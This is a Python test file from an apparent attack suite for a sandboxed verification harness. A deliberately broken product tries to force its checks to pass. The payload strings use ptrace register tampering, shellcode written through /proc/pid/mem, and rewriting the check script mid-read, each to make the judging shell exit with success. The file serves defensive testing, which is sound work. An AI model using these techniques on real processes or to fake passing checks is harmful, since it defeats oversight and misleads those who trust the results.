"""Attacks on the processes that judge: the product runs in a process of its own, and reaches for the gate's shell."""

import platform
from pathlib import Path

import pytest

from tests.attacks.gates_rig import BROKEN, PROJECT, attempted, rig_of
from tests.attacks.kernel_rig import ARM
from tests.attacks.table import Attack, Harm, Outcome, Severity, attack
from tests.conformance.sandbox.sandbox_rig import NEEDS_BUBBLEWRAP

pytestmark = [
    pytest.mark.timeout(180),
    NEEDS_BUBBLEWRAP,
    pytest.mark.skipif(platform.machine() == ARM, reason="the attacks are written for x86-64"),
]

_YAMA = Path("/proc/sys/kernel/yama/ptrace_scope")
NEEDS_OPEN_KERNEL = pytest.mark.skipif(
    _YAMA.exists() and _YAMA.read_text().strip() != "0", reason="this kernel lets no program attach to its parents"
)

APP = "import price\nprint(price.total([1, 2]))\n"
CHECK = 'n=$(/usr/bin/env python3 -B app.py)\necho "got $n"\ntest "$n" = 3\n'
GATE = "sh tests/check.sh"

SHELLS = """\
import ctypes, os
print(0, flush=True)
pid = os.getpid()
shells = []
while pid > 1:
    pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
    try:
        if b"check.sh" in open(f"/proc/{pid}/cmdline", "rb").read():
            shells.append(pid)
    except OSError:
        break
"""
"""The shells of the gate above the product."""

ATTACHING = f"""\
{SHELLS}
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
for pid in shells:
    if libc.ptrace(16, pid, None, None):
        continue
    os.waitpid(pid, 0x40000000)
    words = (ctypes.c_ulonglong * 27)()
    libc.ptrace(12, pid, None, ctypes.addressof(words))
    words[10], words[14], words[15] = 231, 0, 2**64 - 1  # exit_group(0), in place of what it waits for
    words[16] -= 2
    libc.ptrace(13, pid, None, ctypes.addressof(words))
    libc.ptrace(17, pid, None, None)
"""

WRITING_MEMORY = f"""\
{SHELLS}
for pid in shells:
    try:
        while (state := open(f"/proc/{{pid}}/syscall").read().split())[0] == "running":
            pass  # it has just read what was printed, and will soon wait for more
        place = int(state[-1], 16)
        with open(f"/proc/{{pid}}/mem", "r+b", buffering=0) as memory:
            memory.seek(place)
            memory.write(bytes.fromhex("31ffb8e70000000f05"))  # exit_group(0), where it will continue
    except OSError:
        pass
"""

_FILLED = "#" * 70 + "\n"
LONG_CHECK = f'n=$(/usr/bin/env python3 -B app.py)\n{_FILLED * 200}echo "got $n"\ntest "$n" = 3\n'
REWRITING = """\
import pathlib
print(0, flush=True)
script = pathlib.Path("tests/check.sh")
lines = script.read_text().splitlines()
lines[-2] = "exit 0".ljust(len(lines[-2]))
script.write_text("\\n".join(lines) + "\\n")
"""


def row(name: str, none: Outcome, seen: int | None = None) -> Attack:
    return Attack(name=name, layer="gates", severity=Severity.HIGH, harm=Harm.PROOF, none=none, seen=seen)


def reached(folder: Path, tier: str, app: str, check: str = CHECK) -> Outcome:
    """What comes of a story that breaks the product and lets it reach for the gate."""
    rig = rig_of(folder, tier, {**PROJECT, "app.py": APP, "tests/check.sh": check})
    attempt = attempted(rig, {"price.py": BROKEN, "app.py": app}, GATE)
    results = [result for report in attempt.reports for result in report.results]
    assert attempt.fooled or any("got 0" in result.output for result in results), "the broken product did not run"
    if attempt.landed and all(result.forgeable == "no sandbox" for result in results):
        return Outcome.REPORTED
    return attempt.outcome()


@attack(row("the product attaches to the gate's shell and ends it with success", Outcome.REPORTED, seen=32))
@NEEDS_OPEN_KERNEL
def test_attaching(tier: str, tmp_path: Path) -> Outcome:
    return reached(tmp_path, tier, ATTACHING)


@attack(row("the product writes to the memory of the gate's shell", Outcome.REPORTED))
@NEEDS_OPEN_KERNEL
def test_writing_memory(tier: str, tmp_path: Path) -> Outcome:
    return reached(tmp_path, tier, WRITING_MEMORY)


@attack(row("the product rewrites the gate's script while the shell reads it", Outcome.PREVENTED))
def test_rewriting_script(tier: str, tmp_path: Path) -> Outcome:
    """The script is longer than what a shell reads at once."""
    return reached(tmp_path, tier, REWRITING, LONG_CHECK)
